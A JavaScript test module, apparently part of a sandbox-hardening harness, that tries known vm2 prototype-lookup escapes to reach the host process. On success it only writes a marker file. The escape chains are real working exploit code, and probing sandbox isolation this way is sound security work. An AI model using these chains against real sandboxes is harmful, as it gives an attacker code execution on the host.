// Escape attempt: vm2 #184 and GHSA-grj5-jjm8-h35p: __lookupGetter__ of __proto__ called on a host function to reach its real prototype.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-lookup-getter',
  description: 'sandbox escape attempt: lookup-getter',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    attempt(notes, "send", () => { const proto = __send.__lookupGetter__("__proto__").call(__send); pwn(Object.getOwnPropertyDescriptor(proto, "constructor").value("return process")(), marker, notes, "lookupGetter __send"); });
    attempt(notes, "ctx", () => { const proto = ctx.log.__lookupGetter__("__proto__").call(ctx.log); pwn(Object.getOwnPropertyDescriptor(proto, "constructor").value("return process")(), marker, notes, "lookupGetter ctx"); });
    attempt(notes, "reflect", () => pwn(Reflect.getPrototypeOf(__send).constructor("return process")(), marker, notes, "Reflect.getPrototypeOf"));
    return { summary: notes.join(' | '), data: notes };
  },
};
